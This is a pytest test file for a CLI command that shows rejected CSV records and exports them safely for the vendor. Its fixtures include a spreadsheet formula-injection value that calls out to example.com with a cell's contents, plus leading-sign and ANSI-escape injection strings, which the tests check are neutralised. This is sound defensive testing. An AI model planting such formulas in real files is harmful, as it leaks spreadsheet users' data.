"""`./gv rejects`: shows which records were rejected and why, and exports them to a file to send back."""

from __future__ import annotations

import json
import stat
import subprocess
from pathlib import Path

import pytest

from growth_verticals.account import Account
from growth_verticals.cli import rejects

from .conftest import Acme

PERIOD, EARLIER = "2026-11-20", "2026-11-19"
HEADER = "Person Id,Born,Visits,Note"
GOOD = [f"P{number},1970-01-01,{number},ok" for number in range(20)]
BAD = [
    "B1,1980-03-04,many,",
    'B2,soon,many,"=HYPERLINK(""http://example.com/?""&A1)"',
    "-B3,1980-03-04,12.5,+12025550143",
    "B4,too short",
    '"B5",soon,1,"two\nlines\x1b[31m"',
]
LONG = 'B6,soon,1,"' + "x" * 20_000 + '"'


def write(path: Path, *records: str, eol: str = "\n") -> Path:
    path.write_text(eol.join([HEADER, *records]) + eol, newline="")
    return path


@pytest.fixture
def loaded(acme: Acme, tmp_path: Path) -> Acme:
    """A period with one file that has every kind of bad record, and an earlier period with another file."""
    assert acme.gv("load", "acme", write(tmp_path / "old.csv", *GOOD, BAD[0]), "--period", EARLIER).returncode == 0
    assert acme.gv("load", "acme", write(tmp_path / "new.csv", *GOOD, *BAD), "--period", PERIOD).returncode == 0
    return acme


# --- showing ------------------------------------------------------------------------------------------------------


def test_records_are_counted_by_period_file_column_and_reason(loaded: Acme):
    lines = loaded.gv("rejects", "acme").stdout.splitlines()
    assert [line.split() for line in lines[:-1]] == [
        ["period", "file", "column", "reason", "records"],
        [EARLIER, "old.csv", "visits", "not_an_integer", "1"],
        [PERIOD, "new.csv", "visits", "not_an_integer", "3"],
        [PERIOD, "new.csv", "born", "not_a_date", "2"],
        [PERIOD, "new.csv", "(whole", "record)", "too_few_columns", "1"],
    ]
    assert lines[-1] == "6 rejected record(s) in 2 file(s); a record with several faults is counted once for each"
    assert "new.csv" not in loaded.gv("rejects", "acme", "--period", EARLIER).stdout
    assert "1 rejected record(s) in 1 file(s)" in loaded.gv("rejects", "acme", "--file", "old.csv").stdout
    assert loaded.gv("rejects", "acme", "--period", "2026-11-01").stdout.endswith(
        "has no rejected records for 2026-11-01\n"
    )


def test_a_file_without_rejects_does_not_mean_that_the_table_has_none(loaded: Acme):
    none = loaded.gv("rejects", "acme", "--period", PERIOD, "--file", "old.csv")
    assert none.stdout == f"{loaded.table}_rejects has no rejected records of these files for {PERIOD}\n"
    some = loaded.gv("rejects", "acme", "--period", PERIOD, "--file", "old.csv", "--file", "new.csv")
    assert "5 rejected record(s) in 1 file(s)" in some.stdout
    assert some.stderr == "gv: old.csv: it has no rejected records\n"


def test_json_output_has_the_same_counts(loaded: Acme):
    document = json.loads(loaded.gv("rejects", "acme", "--period", PERIOD, "--json").stdout)
    assert (document["source"], document["table"]) == ("acme", f"{loaded.table}_rejects")
    [file] = document["files"]
    assert (file["period"], file["name"], file["records"], len(file["sha256"])) == (PERIOD, "new.csv", 5, 64)
    assert file["faults"][0] == {"column": "visits", "reason": "not_an_integer", "records": 3}
    assert json.loads(loaded.gv("rejects", "acme", "--period", "2026-11-01", "--json").stdout)["files"] == []


def test_rows_show_the_location_and_reason_but_no_values(loaded: Acme):
    shown = loaded.gv("rejects", "acme", "--period", PERIOD, "--rows")
    lines = shown.stdout.splitlines()
    assert len(lines) == 1 + len(BAD)
    assert lines[2].split() == [
        PERIOD,
        "new.csv",
        "23",
        "born;",
        "visits",
        "not_a_date;",
        "not_an_integer",
        "date;",
        "int",
    ]
    assert not any(text in shown.stdout for text in ("many", "HYPERLINK", "B1"))
    assert len(loaded.gv("rejects", "acme", "--rows", 2).stdout.splitlines()) == 3
    rows = json.loads(loaded.gv("rejects", "acme", "--rows", 1, "--json").stdout)["rows"]
    assert [row["raw_record"] for row in rows] == [None]


def test_raw_records_are_shown_on_request_with_a_caution_and_without_control_characters(loaded: Acme):
    shown = loaded.gv("rejects", "acme", "--period", PERIOD, "--rows", "--raw")
    assert "personal data" in shown.stderr
    assert BAD[0] in shown.stdout
    assert r"two\nlines\x1b[31m" in shown.stdout
    assert "\x1b" not in shown.stdout


# --- exporting ----------------------------------------------------------------------------------------------------


def test_an_export_is_in_the_vendors_format_and_safe_to_open_in_a_spreadsheet(loaded: Acme, tmp_path: Path):
    out = tmp_path / "back.csv"
    exported = loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", out)
    assert exported.returncode == 0, exported.stderr
    assert exported.stdout.startswith(f"{out}: 5 of 5 rejected record(s) written; ")
    assert out.read_text().split("\n") == [
        HEADER,
        BAD[0],
        'B2,soon,many,"\'=HYPERLINK(""http://example.com/?""&A1)"',
        "'-B3,1980-03-04,12.5,'+12025550143",
        BAD[3],
        *BAD[4].split("\n"),
        "",
    ]
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_an_exact_export_contains_the_records_unchanged(acme: Acme, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(tmp_path)
    source = write(tmp_path / "dos.csv", *GOOD, *BAD, eol="\r\n")
    acme.gv("load", "acme", source, "--period", PERIOD)
    assert acme.gv("rejects", "export", "acme", "--period", PERIOD, "--exact").returncode == 0
    assert (tmp_path / f"acme-{PERIOD}-rejects.csv").read_bytes() == "\r\n".join([HEADER, *BAD, ""]).encode()


def test_an_exported_file_can_be_corrected_and_loaded(loaded: Acme, tmp_path: Path):
    out = tmp_path / "back.csv"
    loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", out)
    out.write_text(out.read_text().replace("many", "3").replace("12.5", "12").replace("soon", ""))
    again = json.loads(loaded.gv("load", "acme", out, "--period", PERIOD, "--json").stdout)
    assert (again["files"][0]["rows_loaded"], again["files"][0]["rows_rejected"]) == (4, 1)


def test_an_export_never_overwrites_a_file(loaded: Acme, tmp_path: Path):
    out, link = tmp_path / "back.csv", tmp_path / "link.csv"
    out.write_text("mine")
    link.symlink_to(tmp_path / "elsewhere.csv")
    for path in (out, link):
        refused = loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", path)
        assert refused.returncode == 1
        assert "existing files are never overwritten" in refused.stderr
    assert out.read_text() == "mine"
    assert not link.exists()


def test_a_truncated_record_is_reported_and_an_exact_export_omits_it(acme: Acme, tmp_path: Path):
    acme.gv("load", "acme", write(tmp_path / "long.csv", *GOOD, LONG, BAD[0]), "--period", PERIOD)
    for options, included in ((("--exact",), False), ((), True)):
        out = tmp_path / f"back{included}.csv"
        exported = acme.gv("rejects", "export", "acme", "--period", PERIOD, "--out", out, *options)
        missing = "" if included else "missing from the file, because "
        assert f"long.csv, row 22: {missing}only its first 16,384 characters were kept" in exported.stderr
        assert ("…[cut]" in out.read_text()) is included
        assert out.read_text().endswith(f"{BAD[0]}\n")


def test_truncated_records_in_an_encoding_without_the_mark_are_exported_and_not_all_named(
    acme: Acme, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(rejects, "_NAMED_RECORDS", 2)
    acme.declare('Delimited(encoding="latin-1")')
    acme.gv("load", "acme", write(tmp_path / "long.csv", *GOOD, *[LONG] * 5), "--period", PERIOD)
    out = tmp_path / "back.csv"
    exported = acme.gv("rejects", "export", "acme", "--period", PERIOD, "--out", out)
    assert exported.returncode == 0
    assert exported.stderr.count("only its first 16,384 characters were kept") == 2
    assert "the same holds for 3 more record(s)" in exported.stderr
    assert out.read_text("latin-1").count("\\u2026[cut]") == 5


def test_files_with_different_headers_are_not_exported_to_one_file(loaded: Acme, tmp_path: Path):
    other = tmp_path / "other.csv"
    other.write_text("Visits,Person Id\nmany,O1\n1,O2\n")
    loaded.gv("load", "acme", other, "--period", PERIOD)
    out = tmp_path / "back.csv"
    refused = loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", out)
    assert refused.returncode == 1
    assert "different header lines" in refused.stderr
    assert not out.exists()
    assert (
        loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", out, "--file", "other.csv").returncode == 0
    )
    assert out.read_text() == "Visits,Person Id\nmany,O1\n"


def test_a_header_line_that_is_not_known_is_not_called_a_different_one(loaded: Acme, tmp_path: Path):
    """Of two files with the same header line, one has no raw copy any more."""
    other = write(tmp_path / "other.csv", *GOOD[:5], BAD[0])
    loaded.gv("load", "acme", other, "--period", PERIOD)
    account = Account.from_environment()
    bucket, _, prefix = account.landing_uri.removeprefix("s3://").partition("/")
    for name in ("other.csv", "other.csv.receipt.json"):
        account.client("s3").delete_object(Bucket=bucket, Key=f"{prefix}/acme/{PERIOD}/{name}")
    out = tmp_path / "back.csv"
    refused = loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", out)
    assert refused.returncode == 1
    assert "these files may have different header lines" in refused.stderr
    assert "found new.csv, other.csv; no raw copy, and so no known header line, of other.csv." in refused.stderr
    assert not out.exists()
    for name in ("new.csv", "other.csv"):
        one = loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", tmp_path / name[:3], "--file", name)
        assert one.returncode == 0
    assert (tmp_path / "new").read_text().startswith(HEADER)
    assert (tmp_path / "oth").read_text() == f"{BAD[0]}\n"


def test_two_files_of_one_name_with_different_headers_are_not_exported_to_one_file(loaded: Acme, tmp_path: Path):
    (tmp_path / "new.csv").write_text("Visits,Person Id\nmany,O1\n1,O2\n")
    loaded.gv("load", "acme", tmp_path / "new.csv", "--period", PERIOD, "--restated", "add", "--reason", "more")
    refused = loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", tmp_path / "back.csv")
    assert refused.returncode == 1
    assert "have different header lines" in refused.stderr
    assert "--rows --raw" in refused.stderr


def test_an_export_never_writes_into_the_repository(loaded: Acme, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    repository = tmp_path / "repository"
    (repository / "docs").mkdir(parents=True)
    monkeypatch.setattr(rejects, "REPOSITORY", repository)
    monkeypatch.setattr(rejects, "EXPORTS", repository / "exports")
    (tmp_path / "link").symlink_to(repository)
    monkeypatch.chdir(repository)
    command = ("rejects", "export", "acme", "--period", PERIOD)
    for out in ("back.csv", repository / "docs/back.csv", "exports/../back.csv", tmp_path / "link/back.csv", "docs"):
        refused = loaded.gv(*command, "--out", out)
        assert refused.returncode == 1
        assert "must not be committed" in refused.stderr
    assert [path.name for path in repository.rglob("*")] == ["docs"]
    assert loaded.gv(*command).returncode == 0
    assert loaded.gv(*command, "--out", "exports/back.csv").returncode == 0
    assert loaded.gv(*command, "--out", "../back.csv").returncode == 0
    assert sorted(path.name for path in tmp_path.rglob("*.csv") if path.parent.name != tmp_path.name) == [
        f"acme-{PERIOD}-rejects.csv",
        "back.csv",
    ]


def test_git_ignores_what_an_export_writes():
    names = [f"acme-{PERIOD}-rejects.csv", f"docs/acme-{PERIOD}-rejects.jsonl", "exports/back.csv"]
    ignored = subprocess.run(
        ["git", "-C", rejects.REPOSITORY, "check-ignore", *names], capture_output=True, text=True, check=False
    )
    assert ignored.stdout.splitlines() == names


def test_an_export_to_a_folder_has_the_default_name(loaded: Acme, tmp_path: Path):
    exported = loaded.gv("rejects", "export", "acme", "--period", PERIOD, "--out", tmp_path)
    assert exported.returncode == 0
    assert (tmp_path / f"acme-{PERIOD}-rejects.csv").is_file()


def test_an_export_without_the_raw_copy_has_no_header_and_says_so(
    loaded: Acme, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("GV_LANDING_URI", f"{Account.from_environment().landing_uri}/elsewhere")
    out = tmp_path / "back.csv"
    exported = loaded.gv("rejects", "export", "acme", "--period", EARLIER, "--out", out)
    assert "old.csv: its raw copy does not exist, so its header line is unknown" in exported.stderr
    assert out.read_text() == f"{BAD[0]}\n"


def test_json_lines_are_exported_unchanged(acme: Acme, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(tmp_path)
    acme.declare("JsonLines()")
    bad = '{"person_id": "B1", "visits": "=many"}'
    (tmp_path / "people.jsonl").write_text(f'{{"person_id": "P1"}}\n{bad}\n')
    acme.gv("load", "acme", tmp_path / "people.jsonl", "--period", PERIOD)
    acme.gv("rejects", "export", "acme", "--period", PERIOD)
    assert (tmp_path / f"acme-{PERIOD}-rejects.jsonl").read_text() == f"{bad}\n"


# --- arguments ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "arguments",
    [
        ["export", "acme"],
        ["export", "acme", "--period", PERIOD, "--rows"],
        ["acme", "--out", "x.csv"],
        ["acme", "--exact"],
        ["acme", "--raw"],
        ["import", "acme"],
        ["acme", "--rows", "many"],
        ["acme", "--rows", "10001"],
    ],
)
def test_arguments_that_cannot_be_combined_exit_with_2(acme: Acme, arguments: list[str]):
    with pytest.raises(SystemExit) as exit_info:
        acme.gv("rejects", *arguments)
    assert exit_info.value.code == 2
